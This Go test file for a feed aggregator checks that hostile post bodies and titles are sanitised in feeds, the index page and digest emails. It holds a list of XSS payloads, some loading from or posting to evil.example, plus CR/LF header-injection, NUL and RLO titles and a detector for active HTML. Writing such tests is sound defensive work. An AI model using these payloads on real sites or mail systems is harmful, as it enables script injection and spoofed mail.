package faults

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"encoding/xml"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/http"
	"net/mail"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/mmcdole/gofeed"
	"golang.org/x/net/html"

	"github.com/msitfeed/msitfeed/feeds"
	"github.com/msitfeed/msitfeed/feeds/msit/msittest"
	"github.com/msitfeed/msitfeed/mailer/smtptest"
)

// hostileBodies are post bodies an attacker who controls the site's
// editor (or a man in the middle) could publish.
var hostileBodies = map[string]string{
	"script":            `<p>Intro.</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	"javascript: links": `<p><a href="javascript:alert(2)">a</a> <a href="JaVaScRiPt:alert(2)">b</a> <a href="&#106;avascript:alert(2)">c</a> <a href=" java	script:alert(2)">d</a> <a href="vbscript:msgbox(2)">e</a></p>`,
	"on* attributes":    `<p onclick="alert(3)" onmouseover=alert(3)>x</p><img src="/upload/a.jpg" onerror="alert(3)"><body onload="alert(3)"><details open ontoggle=alert(3)>`,
	"iframe":            `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(4)</script>"></iframe><frame src="x"><object data="evil.swf"></object><embed src="evil.swf">`,
	"CSS expressions":   `<div style="width:expression(alert(5))">a</div><p style="background:url(javascript:alert(5))">b</p><style>body{behavior:url(x.htc)}</style><div style="-moz-binding:url(evil.xml#x)">c</div>`,
	"SVG with script":   `<svg><script>alert(6)</script></svg><svg onload="alert(6)"><a xlink:href="javascript:alert(6)"><text>x</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>`,
	"data: URLs":        `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+"><img src="data:text/html,<script>alert(7)</script>"><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">d</a><img srcset="data:image/png;base64,AAAA 1x">`,
	"forms and meta":    `<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(8)">go</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`,
}

// hostileTitles are titles that try to break out of a header, a feed or a
// page.
var hostileTitles = map[string]string{
	"CR/LF":                  "Budget news\r\nBcc: victim@example.org\r\nX-Injected: yes",
	"NUL":                    "Null\x00byte\x00title",
	"10,000 characters":      strings.Repeat("Extremely long title about the national science budget ", 200)[:10000],
	"RLO":                    "Invoice \u202Egpj.exe",
	"markup":                 `<script>alert('title')</script> & ]]> --> <!-- <b>bold</b>`,
	"XML-invalid characters": "Control \x01\x02\x0b\x0c chars \ufffe\uffff here",
	"all of them":            "Everything\r\nBcc: victim@example.org\x00 \u202Eevil " + strings.Repeat("word ", 2000),
}

// activeContent lists what in an HTML document or fragment could run code
// or load from elsewhere: script-capable elements, event handlers,
// javascript:, vbscript: and data: URLs, CSS expressions and bindings. A
// fragment (feed or post content) may hold no style, form or head elements
// either; a page may have its own form and links.
func activeContent(doc string, fragment bool) []string {
	bad := map[string]bool{"script": true, "iframe": true, "frame": true, "frameset": true, "object": true, "embed": true,
		"applet": true, "svg": true, "math": true, "base": true, "style": true}
	if fragment {
		for _, e := range []string{"form", "input", "button", "textarea", "select", "link", "meta"} {
			bad[e] = true
		}
	}
	urlAttrs := []string{"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "background", "poster", "lowsrc", "dynsrc", "srcdoc"}
	var found []string
	z := html.NewTokenizer(strings.NewReader(doc))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return found
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if bad[tok.Data] {
			found = append(found, "<"+tok.Data+">")
		}
		for _, a := range tok.Attr {
			key := strings.ToLower(a.Key)
			if a.Namespace != "" {
				key = a.Namespace + ":" + key
			}
			val := strings.ToLower(strings.Map(func(r rune) rune {
				if unicode.IsSpace(r) || unicode.IsControl(r) {
					return -1
				}
				return r
			}, a.Val))
			switch {
			case strings.HasPrefix(key, "on"):
				found = append(found, tok.Data+" "+key+"=")
			case slices.Contains(urlAttrs, key) && (strings.Contains(val, "javascript:") || strings.Contains(val, "vbscript:") || strings.HasPrefix(val, "data:") || key == "srcdoc"):
				found = append(found, tok.Data+" "+key+"="+val)
			case key == "style" && (strings.Contains(val, "expression(") || strings.Contains(val, "javascript:") || strings.Contains(val, "binding") || strings.Contains(val, "behavior")):
				found = append(found, tok.Data+" style="+val)
			case tok.Data == "meta" && key == "http-equiv" && val == "refresh":
				found = append(found, "meta refresh")
			}
		}
	}
}

// wellFormedXML decodes doc strictly to the end.
func wellFormedXML(doc []byte) error {
	dec := xml.NewDecoder(bytes.NewReader(doc))
	dec.Strict = true
	for {
		_, err := dec.Token()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// hostilePosts are the sample posts plus one press post per hostile body
// and title, the newest of the board.
func hostilePosts() []msittest.Post {
	posts := smallPosts(2)
	id := int64(7000)
	// Dated this week, or the digest would leave them out as old news.
	today := time.Now().In(feeds.KST)
	yesterday := today.AddDate(0, 0, -1).Format("2006-01-02")
	names := slices.Sorted(func(yield func(string) bool) {
		for k := range hostileBodies {
			if !yield(k) {
				return
			}
		}
	})
	for _, n := range names {
		id++
		posts = append(posts, msittest.Post{Board: "press", ID: id, Title: "Hostile body: " + n, Date: yesterday,
			Department: "Red Team", BodyHTML: "<p>Before.</p>" + hostileBodies[n] + "<p>After.</p>"})
	}
	for n, title := range hostileTitles {
		id++
		date := yesterday
		if n == "all of them" {
			date = today.Format("2006-01-02") // the newest: its title starts the digest's subject
		}
		posts = append(posts, msittest.Post{Board: "press", ID: id, Title: title, Date: date,
			Department: "Red\r\nTeam", BodyHTML: "<p>A post with a hostile title (" + n + ").</p>"})
	}
	return posts
}

// mimeParts returns the decoded leaf parts of a message by content type.
func mimeParts(t *testing.T, header map[string][]string, body io.Reader) map[string]string {
	out := map[string]string{}
	var walk func(ctype, cte string, r io.Reader)
	walk = func(ctype, cte string, r io.Reader) {
		mt, params, err := mime.ParseMediaType(ctype)
		if err != nil {
			t.Errorf("content type %q: %v", ctype, err)
			return
		}
		if strings.HasPrefix(mt, "multipart/") {
			mr := multipart.NewReader(r, params["boundary"])
			for {
				p, err := mr.NextRawPart()
				if err != nil {
					return
				}
				walk(p.Header.Get("Content-Type"), p.Header.Get("Content-Transfer-Encoding"), p)
			}
		}
		switch strings.ToLower(cte) {
		case "quoted-printable":
			r = quotedprintable.NewReader(r)
		case "base64":
			r = base64.NewDecoder(base64.StdEncoding, r)
		}
		b, _ := io.ReadAll(r)
		out[mt] += string(b)
	}
	h := mail.Header(header)
	walk(h.Get("Content-Type"), h.Get("Content-Transfer-Encoding"), body)
	return out
}

// TestHostileContent crawls a site whose posts carry scripts, handlers,
// frames, CSS expressions, SVG and data: URLs and whose titles carry CR/LF,
// NUL, 10,000 characters, RLO and markup, then reads every feed, the index
// page, the digest preview and the digest mails.
func TestHostileContent(t *testing.T) {
	u := newUpstream(t, hostilePosts())
	mailEnv := newMailEnv(t, 3, smtptest.Faults{})
	c := mailEnv.c.with(upstreamEnv(mailEnv.path, u.url, 1)...).with("MSITFEED_SOURCE_RATE=1000")
	c.must("crawl")
	// The digest leaves out what was first seen in the last minute: date
	// this crawl back two hours, as if it had run then.
	if _, err := mailEnv.db.Exec(`UPDATE items SET first_seen = ? WHERE ntt_seq_no >= 7000`,
		time.Now().Add(-2*time.Hour).Format("2006-01-02T15:04:05.000Z07:00")); err != nil {
		t.Fatal(err)
	}
	// Only the crawled posts make this digest.
	if _, err := mailEnv.db.Exec(`DELETE FROM items WHERE ntt_seq_no IN (101, 102)`); err != nil {
		t.Fatal(err)
	}

	d := c.serve("--no-scheduler")
	parser := gofeed.NewParser()
	checked, items := 0, 0
	for _, p := range allFeeds() {
		code, body := d.get(p + "?limit=500")
		if code != http.StatusOK {
			t.Fatalf("GET %s: %d", p, code)
		}
		if !strings.HasSuffix(p, ".json") {
			if err := wellFormedXML(body); err != nil {
				t.Errorf("%s is not well-formed XML: %v", p, err)
			}
		} else if !json.Valid(body) {
			t.Errorf("%s is not JSON", p)
		}
		f, err := parser.Parse(bytes.NewReader(body))
		if err != nil {
			t.Errorf("gofeed %s: %v", p, err)
			continue
		}
		checked++
		for _, it := range f.Items {
			items++
			for _, part := range []string{it.Content, it.Description} {
				if bad := activeContent(part, true); len(bad) > 0 {
					t.Errorf("%s item %q carries %v", p, it.Title, bad)
				}
			}
			if strings.HasPrefix(it.Title, "Hostile body") && !strings.Contains(it.Content+it.Description, "After.") {
				t.Errorf("%s item %q lost its harmless text", p, it.Title)
			}
			if strings.ContainsAny(it.Title, "\x00\x01\ufffe") {
				t.Errorf("%s: title %q keeps characters XML cannot carry", p, it.Title)
			}
		}
	}
	_, index := d.get("/")
	if bad := activeContent(string(index), false); len(bad) > 0 {
		t.Errorf("index page carries %v", bad)
	}

	preview := c.must("digest", "preview", "--format", "html")
	if bad := activeContent(preview, false); len(bad) > 0 {
		t.Errorf("digest preview carries %v", bad)
	}
	if out, errs, code := c.run("", "digest", "send"); code != 0 {
		t.Fatalf("digest send: exit %d\n%s%s", code, out, errs)
	}
	msgs := mailEnv.smtp.Messages()
	if len(msgs) != len(mailEnv.emails) {
		t.Fatalf("%d digests sent, want %d", len(msgs), len(mailEnv.emails))
	}
	var subject string
	var headerNames []string
	for _, m := range msgs {
		msg, err := mail.ReadMessage(bytes.NewReader(m.Data))
		if err != nil {
			t.Fatalf("mail: %v", err)
		}
		names := slices.Sorted(func(yield func(string) bool) {
			for k := range msg.Header {
				if !yield(k) {
					return
				}
			}
		})
		headerNames = names
		for _, n := range names {
			if n == "Bcc" || n == "X-Injected" || len(msg.Header[n]) != 1 {
				t.Errorf("header %s appears %d times", n, len(msg.Header[n]))
			}
		}
		subject, err = new(mime.WordDecoder).DecodeHeader(msg.Header.Get("Subject"))
		if err != nil {
			t.Errorf("subject: %v", err)
		}
		if strings.ContainsAny(subject, "\r\n\x00") || utf8.RuneCountInString(subject) > 120 || !strings.HasSuffix(subject, "…") {
			t.Errorf("subject %q (%d runes): want one line, at most 120 runes, cut with …", subject, utf8.RuneCountInString(subject))
		}
		parts := mimeParts(t, msg.Header, msg.Body)
		if parts["text/html"] == "" || parts["text/plain"] == "" {
			t.Errorf("digest parts %v", slices.Collect(func(yield func(string) bool) {
				for k := range parts {
					yield(k)
				}
			}))
		}
		if bad := activeContent(parts["text/html"], false); len(bad) > 0 {
			t.Errorf("digest HTML carries %v", bad)
		}
		if strings.ContainsAny(parts["text/plain"], "\x00") {
			t.Error("digest text carries NUL")
		}
	}
	// The same digest from harmless posts has the same headers.
	calm := newMailEnv(t, 1, smtptest.Faults{})
	calm.send()
	if cm := calm.smtp.Messages(); len(cm) == 1 {
		msg, _ := mail.ReadMessage(bytes.NewReader(cm[0].Data))
		var calmNames []string
		for k := range msg.Header {
			calmNames = append(calmNames, k)
		}
		slices.Sort(calmNames)
		if !slices.Equal(calmNames, headerNames) {
			t.Errorf("hostile digest headers %v, harmless digest headers %v", headerNames, calmNames)
		}
	}
	t.Logf("FIGURES hostile | %d hostile bodies, %d hostile titles | %d feeds well-formed and parsed, %d items checked: 0 active content | index page: 0 | digest preview and %d mails (HTML and text): 0 | %d headers, same names as a harmless digest, subject %d runes: %q",
		len(hostileBodies), len(hostileTitles), checked, items, len(msgs), len(headerNames), utf8.RuneCountInString(subject), subject)
}

// TestActiveContentFindsWhatItLooksFor keeps the checker honest: every
// hostile body, unsanitised, is reported.
func TestActiveContentFindsWhatItLooksFor(t *testing.T) {
	for name, body := range hostileBodies {
		if len(activeContent(body, true)) == 0 {
			t.Errorf("%s: the checker sees nothing in %s", name, body)
		}
	}
	if bad := activeContent(`<p><a href="https://example.org/">ok</a><img src="https://example.org/a.png" alt="x"></p>`, true); len(bad) > 0 {
		t.Errorf("harmless markup reported: %v", bad)
	}
}
